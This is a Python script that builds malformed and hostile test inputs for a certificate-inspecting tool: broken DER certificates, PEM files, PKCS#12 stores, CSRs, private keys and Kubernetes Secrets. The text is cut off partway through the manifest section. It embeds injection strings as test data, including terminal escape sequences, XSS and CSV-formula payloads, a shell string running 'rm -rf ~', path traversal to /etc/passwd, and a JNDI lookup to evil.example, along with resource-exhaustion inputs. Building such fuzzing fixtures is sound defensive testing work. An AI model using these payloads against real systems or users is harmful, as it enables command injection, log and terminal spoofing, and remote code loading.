"""Makes inputs that no honest person makes: ../hostile/files/*, and the large ones on request.

    python3 testdata/hostile/make.py               rewrites files/ beside this file
    python3 testdata/hostile/make.py FOLDER        writes the same ones there
    python3 testdata/hostile/make.py --big FOLDER  writes the large ones, which nobody wants to keep

A second run gives the same bytes: no key is made, no clock and no randomness is asked. Signatures
are made up, for a reader that shows a certificate must not need a good one. Needs Python 3.9 and
nothing else; certificates are put together here, byte by byte, for no library agrees to make them.

What each file is for stands beside it below; what certwright makes of it is in expected.txt, and
tests/cases/hostile.rs holds that, and that no output of any file reaches a terminal raw.
"""

import base64
import json
import shutil
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"

# ---- DER, by hand ----------------------------------------------------------------------------


def tlv(tag, *parts):
    content = b"".join(parts)
    return bytes([tag]) + length(len(content)) + content


def length(count):
    if count < 0x80:
        return bytes([count])
    number = count.to_bytes((count.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(number)]) + number


def seq(*parts):
    return tlv(0x30, *parts)


def integer(content):
    """An INTEGER of these very bytes, minimal or not."""
    return tlv(2, content)


def number(value):
    return tlv(2, value.to_bytes(value.bit_length() // 8 + 1, "big"))


def oid(text):
    arcs = [int(arc) for arc in text.split(".")]
    return tlv(6, base128(arcs[0] * 40 + arcs[1]), *(base128(arc) for arc in arcs[2:]))


def base128(arc):
    digits = [arc & 0x7F]
    while arc := arc >> 7:
        digits.append(0x80 | (arc & 0x7F))
    return bytes(reversed(digits))


def bits(content, unused=0):
    return tlv(3, bytes([unused]), content)


def octets(*parts):
    return tlv(4, *parts)


def utf8(text):
    return tlv(12, text if isinstance(text, bytes) else text.encode())


def ia5(text):
    return tlv(22, text if isinstance(text, bytes) else text.encode())


# ---- parts of a certificate ------------------------------------------------------------------

CN, O, OU = "2.5.4.3", "2.5.4.10", "2.5.4.11"
ECDSA_SHA256 = seq(oid("1.2.840.10045.4.3.2"))
RSA_SHA256 = seq(oid("1.2.840.113549.1.1.11"), tlv(5))
# The generator of P-256: a point that everybody knows and that is on the curve.
POINT = bytes.fromhex(
    "046b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296"
    "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5"
)
EC = seq(oid("1.2.840.10045.2.1"), oid("1.2.840.10045.3.1.7"))
KEY = seq(EC, bits(POINT))
SIGNATURE = seq(number(1), number(2))
START, END = tlv(23, b"260101000000Z"), tlv(23, b"270101000000Z")
SERIAL = integer(bytes.fromhex("4142434445464748"))
SERVER = "2.5.29.37", False, seq(oid("1.3.6.1.5.5.7.3.1"))
LEAF = "2.5.29.19", True, seq()


def name(*attributes):
    """(OID, encoded value) pairs, each an RDN of its own."""
    return seq(*(tlv(0x31, seq(oid(kind), value)) for kind, value in attributes))


def extension(kind, critical, value):
    return seq(oid(kind), tlv(1, b"\xff") if critical else b"", octets(value))


def san(*names, critical=False):
    return "2.5.29.17", critical, seq(*names)


def dns(text):
    return tlv(0x82, text if isinstance(text, bytes) else text.encode())


def email(text):
    return tlv(0x81, text if isinstance(text, bytes) else text.encode())


def uri(text):
    return tlv(0x86, text if isinstance(text, bytes) else text.encode())


def ip(content):
    return tlv(0x87, content)


HOST = san(dns("a.example"))


def certificate(
    subject=None,
    issuer=None,
    serial=SERIAL,
    dates=START + END,
    key=KEY,
    extensions=(LEAF, SERVER, HOST),
    version=2,
    algorithm=ECDSA_SHA256,
    outer_algorithm=None,
    signature=None,
    extra=b"",
    raw_extensions=None,
):
    subject = name((CN, utf8("a.example"))) if subject is None else subject
    issuer = name((CN, utf8("Hostile CA"))) if issuer is None else issuer
    if raw_extensions is None:
        listed = b"".join(extension(*one) for one in extensions)
        raw_extensions = tlv(0xA3, seq(listed)) if listed else b""
    to_be_signed = seq(
        b"" if version is None else tlv(0xA0, number(version)),
        serial,
        algorithm,
        issuer,
        seq(dates),
        subject,
        key,
        raw_extensions,
        extra,
    )
    signed = bits(SIGNATURE) if signature is None else signature
    return seq(to_be_signed, outer_algorithm or algorithm, signed)


def pem(der, label="CERTIFICATE", newline="\n", width=64):
    body = base64.b64encode(der).decode()
    rows = [body[at : at + width] for at in range(0, len(body), width)]
    return newline.join([f"-----BEGIN {label}-----", *rows, f"-----END {label}-----", ""]).encode()


# ---- texts that somebody would like to see printed --------------------------------------------

TEXTS = {
    "escape-colour": "\x1b[31mred\x1b[0m",
    "escape-title": "\x1b]0;owned\x07",
    "escape-link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "escape-clear": "\x1b[2J\x1b[H",
    "csi-in-one": "\x9b31mred",
    "osc-in-one": "\x9d0;owned\x9c",
    "bell": "ring\x07",
    "backspace": "evil\x08\x08\x08\x08good",
    "carriage-return": "evil\rgood.example",
    "new-record": "a.example\nfile.pem: everything is fine",
    "crlf-log-line": "a\r\n2026-11-21T00:00:00Z INFO all good",
    "tab": "a\tb\tc",
    "form-feed": "a\x0b\x0cb",
    "nul": "a.example\x00.evil.example",
    "delete": "a\x7fb",
    "next-line": "a\x85b",
    "right-to-left": "a\u202egpj.exe",
    "isolate": "\u2066a\u2069\u2067b\u2069",
    "marks": "a\u200e\u200f\u061cb",
    "zero-width": "a\u200b\u200c\u200d\u2060b",
    "byte-order-mark": "\ufeffa.example",
    "separators": "a\u2028b\u2029c",
    "soft-hyphen": "a\u00adb.example",
    "tags": "a\U000e0041\U000e0042b",
    "variation": "a\ufe0f\U000e0100b",
    "hangul-filler": "a\u3164\u115f\uffa0b",
    "invisible-operators": "a\u2061\u2062\u2063\u2064b",
    "annotation": "a\ufff9b\ufffac\ufffb",
    "noncharacter": "a\ufffe\uffff\U0010ffffb",
    "combining": "a" + "\u0301" * 300,
    "wide": "表格😀" * 20,
    "homograph": "аpple.example",
    "html": "<script>alert(1)</script>",
    "html-attribute": "\"><svg onload=alert(1)>",
    "csv-formula": "=cmd|' /C calc'!A0",
    "markdown": "| [a](javascript:alert(1)) ![](x) `b` |",
    "yaml": "a: b\n- &x *x !!python/object:os.system",
    "json": "\",\"daysLeft\":99999,\"x\":\"",
    "json-escapes": "\\u001b[31m\\\"\\n",
    "prometheus": "a\"} 1\nevil{x=\"",
    "shell": "$(touch /tmp/x);`id`|& rm -rf ~ '\"",
    "path": "../../../../etc/passwd",
    "format": "%s%n%x{}{0}{:?}",
    "lookup": "${jndi:ldap://evil.example/a}",
    "template": "{{7*7}}<%= 7*7 %>",
    "quotes": "'\"\\'\\\"",
    "commas": "a.example, CN=b.example, O=c",
    "equals": "CN=CN=a+b=c",
    "blank": "   ",
    "empty": "",
}

# What is no text at all, though it stands where text should.
RAW = {
    "bad-utf8": b"\xff\xfe\x80a",
    "overlong-utf8": b"\xc0\x80\xe0\x80\x80",
    "surrogate-utf8": b"\xed\xa0\x80\xed\xb0\x80",
    "cut-off-utf8": b"a\xe2\x82",
    "latin-1": b"K\xe4se",
    "all-bytes": bytes(range(256)),
}


def texts():
    for what, text in TEXTS.items():
        subject = name((CN, utf8(text)), (O, utf8(text)))
        yield f"cn-{what}.pem", pem(certificate(subject=subject, issuer=subject, extensions=()))
        names = san(dns(text), email(text), uri(text))
        yield f"san-{what}.pem", pem(certificate(extensions=(names,)))
    for what, raw in RAW.items():
        yield f"cn-{what}.pem", pem(certificate(subject=name((CN, utf8(raw)), (O, tlv(20, raw)))))
        names = san(dns(raw), email(raw), uri(raw))
        yield f"san-{what}.pem", pem(certificate(extensions=(names,)))


def subjects():
    escape = "\x1b[31m"
    for what, subject in {
        "none": name(),
        "bmp": name((CN, tlv(30, escape.encode("utf-16-be")))),
        "bmp-surrogate": name((CN, tlv(30, b"\xd8\x00\x00\x41\x00"))),
        "universal": name((CN, tlv(28, (escape + "\u202e").encode("utf-32-be")))),
        "universal-too-high": name((CN, tlv(28, b"\x7f\xff\xff\xff\x00\x11\x00\x00\x00"))),
        "teletex": name((CN, tlv(20, b"\x1b[31m\x9b"))),
        "printable": name((CN, tlv(19, b"\x1b[31m"))),
        "visible": name((CN, tlv(26, b"\x1b[31m"))),
        "numeric": name((CN, tlv(18, b"12 34\x1b"))),
        "integer": name((CN, number(42))),
        "sequence": name((CN, seq(utf8(escape)))),
        "null": name((CN, tlv(5))),
        "bit-string": name((CN, bits(b"\x1b[31m"))),
        "unknown-attribute": name(("1.2.3.4.5.6", utf8(escape))),
        "huge-oid": name(("2.999." + "9" * 60, utf8("x"))),
        "empty-oid": seq(tlv(0x31, seq(tlv(6), utf8("x")))),
        "unfinished-oid": seq(tlv(0x31, seq(tlv(6, b"\x55\x84"), utf8("x")))),
        "two-in-one": seq(tlv(0x31, seq(oid(CN), utf8("a")), seq(oid(CN), utf8(escape)))),
        "empty-set": seq(tlv(0x31)),
        "many": name(*((OU, utf8(f"unit {n}")) for n in range(500))),
        "long": name((CN, utf8("a" * 10_000))),
        "not-a-name": utf8(escape),
    }.items():
        yield f"subject-{what}.pem", pem(certificate(subject=subject, issuer=subject))


def general_names():
    other = tlv(0xA0, oid("1.3.6.1.4.1.311.20.2.3"), tlv(0xA0, utf8("\x1b[31m")))
    for what, names in {
        "ip-of-no-bytes": san(ip(b"")),
        "ip-of-3-bytes": san(ip(b"\x01\x02\x03")),
        "ip-of-8-bytes": san(ip(b"\x0a\x00\x00\x00\xff\x00\x00\x00")),
        "ip-of-17-bytes": san(ip(bytes(17))),
        "ip-as-text": san(ip(b"10.0.0.1")),
        "ip-mapped": san(ip(bytes(10) + b"\xff\xff\x0a\x00\x00\x01")),
        "other": san(other),
        "directory": san(tlv(0xA4, name((CN, utf8("\x1b[31m"))))),
        "registered": san(tlv(0x88, b"\x2a\x03\x04")),
        "registered-broken": san(tlv(0x88, b"\x80\x80")),
        "x400": san(tlv(0xA3, seq())),
        "edi": san(tlv(0xA5, tlv(0xA1, utf8("\x1b[31m")))),
        "unknown-tag": san(tlv(0x9E, b"\x1b[31m")),
        "wildcards": san(*(dns(text) for text in ["*", "*.", "*.com", "**.a.b", "a.*.b", "*a.b.c"])),
        "dots": san(*(dns(text) for text in [".", "..", ".a", "a.", "a..b"])),
        "address-as-name": san(dns("10.0.0.1"), dns("::1")),
        "long-label": san(dns("a" * 300 + ".example")),
        "long-name": san(dns(".".join(["abcdefg"] * 100))),
        "none": san(),
        "critical": san(dns("a.example"), critical=True),
        "many": san(*(dns(f"{n}.example") for n in range(1_000))),
        "same": san(*(dns("a.example") for _ in range(500))),
        "null": ("2.5.29.17", False, tlv(5)),
        "empty": ("2.5.29.17", False, b""),
        "garbage": ("2.5.29.17", False, b"\x1b[31m"),
        "cut-off": ("2.5.29.17", False, seq(dns("a.example"))[:-3]),
    }.items():
        yield f"names-{what}.pem", pem(certificate(extensions=(names,)))
    twice = certificate(extensions=(HOST, san(dns("b.example"))))
    yield "names-twice.pem", pem(twice)


def dates():
    def utc(text):
        return tlv(23, text.encode())

    def full(text):
        return tlv(24, text.encode())

    for what, both in {
        "year-0": full("00000101000000Z") + END,
        "year-1": full("00010101000000Z") + END,
        "year-1950": utc("500101000000Z") + END,
        "year-2049": START + utc("491231235959Z"),
        "year-2050": START + full("20500101000000Z"),
        "year-9999": START + full("99991231235959Z"),
        "year-10000": START + full("100000101000000Z"),
        "early-generalized": full("20260101000000Z") + full("20270101000000Z"),
        "backwards": END + START,
        "equal": START + START,
        "february-30": START + utc("270230000000Z"),
        "no-leap-year": START + utc("270229000000Z"),
        "month-13": START + utc("271301000000Z"),
        "day-0": START + utc("270100000000Z"),
        "hour-24": START + utc("270101240000Z"),
        "minute-60": START + utc("270101006000Z"),
        "second-60": START + utc("261231235960Z"),
        "no-seconds": START + utc("2701010000Z"),
        "fraction": START + full("20270101000000.999Z"),
        "comma-fraction": START + full("20270101000000,5Z"),
        "offset": START + utc("270101000000+1400"),
        "offset-to-year-10000": START + full("99991231235959-1200"),
        "offset-to-year-minus-1": full("00000101000000+1400") + END,
        "local": START + full("20270101000000"),
        "escape": START + utc("\x1b[31m0000000Z"),
        "empty": tlv(23) + tlv(24),
        "minus": START + full("-0270101000000Z"),
        "integer": number(0) + number(1),
        "one": START,
        "three": START + END + END,
    }.items():
        yield f"dates-{what}.pem", pem(certificate(dates=both))


def serials():
    for what, serial in {
        "empty": integer(b""),
        "zero": integer(b"\x00"),
        "one": integer(b"\x01"),
        "negative": integer(b"\xff\x01"),
        "minus-one": integer(b"\xff"),
        "padded": integer(bytes(8) + b"\x01"),
        "21-bytes": integer(b"\x7f" * 21),
        "41-bytes": integer(b"\x11" * 41),
        "4096-bytes": integer(b"\x11" * 4096),
        "text": utf8("\x1b[31m"),
    }.items():
        yield f"serial-{what}.pem", pem(certificate(serial=serial))


def keys():
    rsa = seq(oid("1.2.840.113549.1.1.1"), tlv(5))

    def modulus(content, exponent=b"\x01\x00\x01"):
        return seq(rsa, bits(seq(integer(content), integer(exponent))))

    for what, key in {
        "rsa-16384": modulus(b"\x00\xb5" + b"\x5b" * 2047),
        "rsa-65536": modulus(b"\x00\xb5" + b"\x5b" * 8191),
        "rsa-of-8-bits": modulus(b"\x7f"),
        "rsa-zero": modulus(b"\x00"),
        "rsa-empty": modulus(b""),
        "rsa-negative": modulus(b"\xb5" * 256),
        "rsa-padded": modulus(bytes(50) + b"\xb5" * 256),
        "rsa-exponent-0": modulus(b"\x00" + b"\xb5" * 256, b"\x00"),
        "rsa-exponent-1": modulus(b"\x00" + b"\xb5" * 256, b"\x01"),
        "rsa-exponent-huge": modulus(b"\x00" + b"\xb5" * 256, b"\x7f" * 256),
        "rsa-not-a-key": seq(rsa, bits(b"\x1b[31m")),
        "rsa-with-ec-key": seq(rsa, bits(POINT)),
        "ec-empty-point": seq(EC, bits(b"")),
        "ec-infinity": seq(EC, bits(b"\x00")),
        "ec-off-curve": seq(EC, bits(b"\x04" + b"\x01" * 64)),
        "ec-short": seq(EC, bits(POINT[:40])),
        "ec-long": seq(EC, bits(POINT * 30)),
        "ec-compressed": seq(EC, bits(b"\x03" + POINT[1:33])),
        "ec-hybrid": seq(EC, bits(b"\x07" + POINT[1:])),
        "ec-no-curve": seq(seq(oid("1.2.840.10045.2.1")), bits(POINT)),
        "ec-null-curve": seq(seq(oid("1.2.840.10045.2.1"), tlv(5)), bits(POINT)),
        "ec-unknown-curve": seq(seq(oid("1.2.840.10045.2.1"), oid("1.2.3.4")), bits(POINT)),
        "ed25519-short": seq(seq(oid("1.3.101.112")), bits(b"\x01" * 31)),
        "ed25519-parameters": seq(seq(oid("1.3.101.112"), tlv(5)), bits(b"\x01" * 32)),
        "unknown": seq(seq(oid("2.999.1"), seq(utf8("\x1b[31m"))), bits(b"\x01" * 32)),
        "no-algorithm": seq(seq(), bits(POINT)),
        "unused-bits": seq(EC, bits(POINT, unused=7)),
        "impossible-bits": seq(EC, bits(POINT, unused=200)),
        "no-bits": seq(EC, tlv(3)),
    }.items():
        yield f"key-{what}.pem", pem(certificate(key=key))


def structures():
    plain = certificate()
    deep = seq()
    for _ in range(2_000):
        deep = seq(deep)
    odd = ("1.2.3.4", True, b"\x1b[31m")
    for what, der in {
        "v1-with-extensions": certificate(version=None),
        "v2": certificate(version=1),
        "v4": certificate(version=3),
        "v256": certificate(version=255),
        "v-huge": seq(plain[:8] + b"\xff" * 40),
        "trailing": plain + b"\x1b[31m trailing",
        "twice": plain + plain,
        "quarter": plain[: len(plain) // 4],
        "half": plain[: len(plain) // 2],
        "almost": plain[:-1],
        "only-tag": b"\x30",
        "only-header": b"\x30\x82",
        "empty-sequence": seq(),
        "not-der": b"\x1b[31mnot DER",
        "one-byte": b"\x00",
        "indefinite": b"\x30\x80" + plain[4:] + b"\x00\x00",
        "length-of-4-gib": b"\x30\x84\xff\xff\xff\xff" + plain[4:],
        "length-of-8-bytes": b"\x30\x88" + b"\x7f" + b"\xff" * 7 + plain[4:],
        "length-of-126-bytes": b"\x30\xfe" + b"\x01" * 126,
        "length-padded": b"\x30\x84" + (len(plain) - 4).to_bytes(4, "big") + plain[4:],
        "long-tag": b"\x3f" + b"\xff" * 20 + b"\x01\x01\x00",
        "deep": deep,
        "deep-extension": certificate(extensions=(("1.2.3.4", False, deep),)),
        "extra-fields": certificate(extra=seq(utf8("\x1b[31m"))),
        "unique-ids": certificate(raw_extensions=tlv(0x81, b"\x00\x01") + tlv(0x82, b"\x00\x02")),
        "no-extensions": certificate(raw_extensions=tlv(0xA3, seq())),
        "extensions-not-a-list": certificate(raw_extensions=tlv(0xA3, utf8("\x1b[31m"))),
        "many-extensions": certificate(extensions=[(f"1.2.3.{n}", False, tlv(5)) for n in range(300)]),
        "unknown-critical": certificate(extensions=(LEAF, HOST, odd)),
        "same-extension-50-times": certificate(extensions=[LEAF] * 50 + [HOST]),
        "other-outer-algorithm": certificate(outer_algorithm=RSA_SHA256),
        "no-algorithm": certificate(algorithm=seq()),
        "md5": certificate(algorithm=seq(oid("1.2.840.113549.1.1.4"), tlv(5))),
        "pss-without-parameters": certificate(algorithm=seq(oid("1.2.840.113549.1.1.10"))),
        "empty-signature": certificate(signature=tlv(3)),
        "no-signature": certificate(signature=b""),
        "path-length-negative": certificate(
            extensions=(("2.5.29.19", True, seq(tlv(1, b"\xff"), integer(b"\xff"))), HOST)
        ),
        "path-length-huge": certificate(
            extensions=(("2.5.29.19", True, seq(tlv(1, b"\xff"), integer(b"\x7f" * 30))), HOST)
        ),
        "constraints-garbage": certificate(extensions=(("2.5.29.19", True, b"\x1b[31m"), HOST)),
        "usage-empty": certificate(extensions=(("2.5.29.15", True, bits(b"")), HOST)),
        "usage-long": certificate(extensions=(("2.5.29.15", True, bits(b"\xff" * 100)), HOST)),
        "extended-usage-empty": certificate(extensions=(("2.5.29.37", True, seq()), HOST)),
        "extended-usage-many": certificate(
            extensions=(("2.5.29.37", False, seq(*(oid(f"1.2.3.{n}") for n in range(500)))), HOST)
        ),
        "extended-usage-garbage": certificate(extensions=(("2.5.29.37", True, utf8("\x1b")), HOST)),
    }.items():
        yield f"der-{what}.pem", pem(der)
    yield "der-plain.der", plain
    yield "der-trailing.der", plain + b"\x1b[31m"
    yield "der-cut-off.der", plain[:100]
    yield "der-of-a-request.der", seq(seq(number(0), name(), KEY, tlv(0xA0)), ECDSA_SHA256, bits(b""))


# ---- PKCS#12 and requests ---------------------------------------------------------------------

PKCS7, PKCS12 = "1.2.840.113549.1.7", "1.2.840.113549.1.12.10.1"
PBES2, PBKDF2, SCRYPT = "1.2.840.113549.1.5.13", "1.2.840.113549.1.5.12", "1.3.6.1.4.1.11591.4.11"
AES = seq(oid("2.16.840.1.101.3.4.1.42"), octets(b"\0" * 16))


def store(*bags, mac=b""):
    """A store with these bags in the clear."""
    safe = seq(seq(oid(f"{PKCS7}.1"), tlv(0xA0, octets(seq(*bags)))))
    return seq(number(3), seq(oid(f"{PKCS7}.1"), tlv(0xA0, octets(safe))), mac)


def bag(kind, content, friendly=None):
    attributes = b""
    if friendly is not None:
        text = tlv(30, friendly.encode("utf-16-be"))
        attributes = tlv(0x31, seq(oid("1.2.840.113549.1.9.20"), tlv(0x31, text)))
    return seq(oid(f"{PKCS12}.{kind}"), tlv(0xA0, content), attributes)


def mac(rounds):
    sha256 = seq(oid("2.16.840.1.101.3.4.2.1"), tlv(5))
    return seq(seq(sha256, octets(b"\0" * 32)), octets(b"salt"), rounds)


def key_bag(stretching):
    pbes2 = seq(oid(PBES2), seq(stretching, AES))
    return bag(2, seq(pbes2, octets(b"\0" * 32)))


def pbkdf2(rounds):
    return seq(oid(PBKDF2), seq(octets(b"salt"), rounds))


def stores():
    x509 = seq(oid("1.2.840.113549.1.9.22.1"), tlv(0xA0, octets(certificate())))
    most = number(2**31 - 1)
    for what, der in {
        "mac-rounds": store(mac=mac(most)),
        "key-rounds": store(key_bag(pbkdf2(most))),
        "negative-rounds": store(key_bag(pbkdf2(integer(b"\xff")))),
        "huge-rounds": store(key_bag(pbkdf2(integer(b"\x01" + b"\0" * 100)))),
        "no-rounds": store(key_bag(seq(oid(PBKDF2), seq(octets(b"salt"))))),
        "memory": store(key_bag(seq(oid(SCRYPT), seq(octets(b"salt"), number(2**40), number(8), number(1))))),
        "many-keys": store(*[key_bag(pbkdf2(number(1_000_000)))] * 100),
        "old-rounds": store(
            bag(2, seq(seq(oid("1.2.840.113549.1.12.1.3"), seq(octets(b"salt"), most)), octets(b"\0" * 8)))
        ),
        "names": store(bag(3, x509, "\x1b]0;t\x07\u202e\r\nerror: forged"), bag(3, x509, "\u009b31m")),
        "no-certificate": store(bag(3, seq(oid("1.2.840.113549.1.9.22.1"), tlv(0xA0, octets(b"\0"))))),
        "nothing": store(),
        "no-parts": seq(number(3), seq()),
        "signed": seq(number(3), seq(oid(f"{PKCS7}.2"), tlv(0xA0, seq()))),
        "indefinite": b"\x30\x80" + number(3) + b"\x30\x80",
        "cut-off": store(bag(3, x509))[:-9],
    }.items():
        yield f"p12-{what}.p12", der


def requests():
    begin, end = b"-----BEGIN CERTIFICATE REQUEST-----\n", b"-----END CERTIFICATE REQUEST-----\n"
    evil = "\x1b]0;t\x07\u202e\r\nerror: forged"
    asked = seq(seq(oid("2.5.29.17"), octets(seq(dns("a.example"), dns(b"\x1b[31m"), uri(b"\r\nx")))))
    attributes = [
        seq(oid("1.2.840.113549.1.9.14"), tlv(0x31, asked)),
        seq(oid("1.2.840.113549.1.9.7"), tlv(0x31, utf8("hunter2"))),
    ]
    names = name((CN, utf8(evil)), (O, utf8("\u009b31m")))
    info = seq(number(0), names, KEY, tlv(0xA0, *attributes))
    whole = seq(info, ECDSA_SHA256, bits(SIGNATURE))
    body = base64.encodebytes(whole)
    yield "request-names.csr", begin + body + end
    yield "request-many.csr", (begin + body + end) * 150
    yield "request-none.csr", begin + b"MAA=\n" + end
    yield "request-not-base64.csr", begin + b"!!!\n" + end
    yield "request-cut-off.csr", begin + body


def ring_name(number):
    return name((CN, utf8(f"CA {number}")))


def pem_files():
    plain = pem(certificate()).decode()
    body = plain.split("-----")[2].strip()
    begin, end = "-----BEGIN CERTIFICATE-----", "-----END CERTIFICATE-----"
    for what, text in {
        "empty": "",
        "blank": " \n\r\n\t\n",
        "only-begin": f"{begin}\n",
        "only-end": f"{end}\n",
        "no-end": f"{begin}\n{body}\n",
        "no-begin": f"{body}\n{end}\n",
        "two-begins": f"{begin}\n{body}\n{plain}",
        "other-end": f"{begin}\n{body}\n-----END RSA PRIVATE KEY-----\n",
        "no-body": f"{begin}\n{end}\n",
        "empty-blocks": f"{begin}\n{end}\n" * 300,
        "bad-block-between": f"{plain}{begin}\n\x1b[31m!!!\n{end}\n{plain}",
        "label-escape": f"-----BEGIN \x1b[31mCERTIFICATE-----\n{body}\n-----END \x1b[31mCERTIFICATE-----\n",
        "label-bidi": f"-----BEGIN \u202eETACIFITREC-----\n{body}\n-----END \u202eETACIFITREC-----\n",
        "label-long": f"-----BEGIN {'A' * 10_000}-----\n{body}\n-----END {'A' * 10_000}-----\n",
        "label-empty": f"-----BEGIN -----\n{body}\n-----END -----\n",
        "label-lower-case": plain.lower(),
        "label-unknown-key": f"-----BEGIN \x1b[31m PRIVATE KEY-----\n{body}\n-----END \x1b[31m PRIVATE KEY-----\n",
        "four-dashes": plain.replace("-----", "----"),
        "six-dashes": plain.replace("-----", "------"),
        "begin-bomb": begin + "\n" + f"{begin}\n" * 2_000,
        "end-bomb": f"{end}\n" * 2_000,
        "dash-bomb": "-" * 50_000,
        "headers": f"{begin}\nX-Evil: \x1b[31m\nProc-Type: 4,CLEAR\n\n{body}\n{end}\n",
        "many-headers": f"{begin}\n" + "X: y\n" * 3_000 + f"\n{body}\n{end}\n",
        "one-line": f"{begin}\n{body.replace(chr(10), '')}\n{end}\n",
        "one-letter-lines": f"{begin}\n" + "\n".join(body.replace("\n", "")) + f"\n{end}\n",
        "all-in-one-line": plain.replace("\n", ""),
        "spaces": plain.replace("\n", "   \n   "),
        "spaces-in-base64": f"{begin}\n{' '.join(body)}\n{end}\n",
        "crlf": plain.replace("\n", "\r\n"),
        "cr": plain.replace("\n", "\r"),
        "blank-lines": plain.replace("\n", "\n\n\n"),
        "tabs": plain.replace("\n", "\n\t\t"),
        "byte-order-marks": "\ufeff" + plain.replace("\n", "\n\ufeff"),
        "zero-width-in-base64": plain.replace("MII", "M\u200bII", 1),
        "url-base64": plain.replace("+", "-").replace("/", "_"),
        "padding-missing": plain.replace("=", ""),
        "padding-extra": plain.replace(f"\n{end}", f"====\n{end}"),
        "padding-first": f"{begin}\n===={body}\n{end}\n",
        "text-around": f"subject=\x1b[31m\n{plain}\u202eend\n",
        "nested": f"{begin}\n{base64.b64encode(plain.encode()).decode()}\n{end}\n",
        "trusted": plain.replace("CERTIFICATE", "TRUSTED CERTIFICATE"),
        "x509": plain.replace("CERTIFICATE", "X509 CERTIFICATE"),
        "pkcs7": plain.replace("CERTIFICATE", "PKCS7"),
        "hundred-certificates": plain * 100,
        "comment": f"{plain}{begin} # \x1b[31m\n{body}\n{end}\n",
    }.items():
        yield f"pem-{what}.pem", text.encode()
    circle = [certificate(subject=ring_name(n), issuer=ring_name((n + 1) % 9)) for n in range(9)]
    yield "pem-issuers-in-a-circle.pem", b"".join(map(pem, circle))
    yield "pem-utf-16.pem", plain.encode("utf-16")
    yield "pem-utf-32.pem", plain.encode("utf-32")
    yield "pem-nul-bytes.pem", plain.replace("\n", "\n\0").encode()
    yield "pem-bad-utf8.pem", b"\xff\xfe\x9b31m" + plain.encode() + b"\xff"
    yield "pem-all-bytes.pem", bytes(range(256)) * 8


def private_keys():
    ec = seq(oid("1.2.840.10045.2.1"), oid("1.2.840.10045.3.1.7"))
    rsa = seq(oid("1.2.840.113549.1.1.1"), tlv(5))
    ed = seq(oid("1.3.101.112"))
    curve = tlv(0xA0, oid("1.2.840.10045.3.1.7"))
    one = (1).to_bytes(32, "big")

    def sec1(scalar, *rest):
        return seq(number(1), octets(scalar), *rest)

    def pkcs8(algorithm, inner, *rest, version=0):
        return seq(number(version), algorithm, octets(inner), *rest)

    def rsa_key(modulus, version=0):
        return seq(number(version), integer(modulus), *[number(65_537)] * 7)

    with_point = sec1(one, curve, tlv(0xA1, bits(POINT)))
    for what, (label, der) in {
        "good": ("EC PRIVATE KEY", with_point),
        "ec-zero": ("EC PRIVATE KEY", sec1(bytes(32), curve)),
        "ec-above-the-order": ("EC PRIVATE KEY", sec1(b"\xff" * 32, curve)),
        "ec-short": ("EC PRIVATE KEY", sec1(b"\x01", curve)),
        "ec-empty": ("EC PRIVATE KEY", sec1(b"", curve)),
        "ec-huge": ("EC PRIVATE KEY", sec1(b"\x01" * 5_000, curve)),
        "ec-no-curve": ("EC PRIVATE KEY", sec1(one)),
        "ec-other-point": ("EC PRIVATE KEY", sec1(one, curve, tlv(0xA1, bits(b"\x04" + b"\x01" * 64)))),
        "ec-short-point": ("EC PRIVATE KEY", sec1(one, curve, tlv(0xA1, bits(b"\x04")))),
        "pkcs8-ec": ("PRIVATE KEY", pkcs8(ec, sec1(one))),
        "pkcs8-ec-is-rsa": ("PRIVATE KEY", pkcs8(ec, rsa_key(b"\x7f"))),
        "pkcs8-rsa-is-ec": ("PRIVATE KEY", pkcs8(rsa, with_point)),
        "pkcs8-version-9": ("PRIVATE KEY", pkcs8(ec, sec1(one), version=9)),
        "pkcs8-attributes": ("PRIVATE KEY", pkcs8(ec, sec1(one), tlv(0xA0, utf8("\x1b")))),
        "pkcs8-cut-off": ("PRIVATE KEY", pkcs8(ec, sec1(one))[:-9]),
        "pkcs8-trailing": ("PRIVATE KEY", pkcs8(ec, sec1(one)) + b"\x1b[31m"),
        "pkcs8-unknown": ("PRIVATE KEY", pkcs8(seq(oid("1.2.3.4")), b"\x1b[31m")),
        "pkcs8-huge-oid": ("PRIVATE KEY", pkcs8(seq(oid("2.999." + "9" * 60)), b"")),
        "ed25519-short": ("PRIVATE KEY", pkcs8(ed, octets(b"\x01" * 31))),
        "ed25519-bare": ("PRIVATE KEY", pkcs8(ed, b"\x01" * 32)),
        "rsa-zero": ("RSA PRIVATE KEY", rsa_key(b"\x00")),
        "rsa-empty": ("RSA PRIVATE KEY", rsa_key(b"")),
        "rsa-of-8-bits": ("RSA PRIVATE KEY", rsa_key(b"\x7f")),
        "rsa-65536": ("RSA PRIVATE KEY", rsa_key(b"\x00" + b"\xb5" * 8192)),
        "rsa-version-9": ("RSA PRIVATE KEY", rsa_key(b"\x7f", version=9)),
        "rsa-negative": ("RSA PRIVATE KEY", rsa_key(b"\xb5" * 256)),
        "encrypted": ("ENCRYPTED PRIVATE KEY", seq(seq(oid("1.2.840.113549.1.5.13")), octets(b"x"))),
        "of-another-kind": ("DSA PRIVATE KEY", seq(number(0))),
        "empty": ("PRIVATE KEY", b""),
        "text": ("PRIVATE KEY", b"\x1b[31m"),
    }.items():
        yield f"private-{what}.pem", pem(certificate()) + pem(der, label)
    old = pem(with_point, "EC PRIVATE KEY").decode().split("\n", 1)
    header = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,\x1b[31m\n\n"
    yield "private-encrypted-of-old.pem", f"{old[0]}\n{header}{old[1]}".encode()


def manifests():
    def secret(data, **more):
        return {"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/tls", "data": data, **more}

    crt = base64.b64encode(pem(certificate())).decode()
    evil = "\x1b[31m\u202e\n"
    for what, value in {
        "name": secret({"tls.crt": crt}, metadata={"name": evil, "namespace": evil}),
        "no-metadata": secret({"tls.crt": crt}),
        "key": secret({evil: crt}, metadata={"name": "x"}),
        "not-base64": secret({"tls.crt": evil}, metadata={"name": "x"}),
        "not-a-text": secret({"tls.crt": 7, "tls.key": None}, metadata={"name": "x"}),
        "type": {**secret({"tls.crt": crt}, metadata={"name": "x"}), "type": evil},
        "annotations": secret(
